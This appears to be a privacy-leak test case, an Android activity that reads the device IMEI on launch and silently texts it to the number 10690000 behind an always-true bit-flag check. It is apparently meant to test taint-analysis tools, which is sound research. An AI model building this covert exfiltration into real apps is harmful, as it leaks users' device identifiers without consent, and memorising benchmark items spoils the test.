package cn.privlens.suite.bits_of_same_flag;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class Main extends Activity {
    private static final int LOUD = 2;
    private static final int QUIET = 4;
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        int flags = 1;
        flags |= QUIET;
        if ((flags & QUIET) != 0) {
            SmsManager.getDefault().sendTextMessage("10690000", null, ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId(), null, null);
        }
    }
}
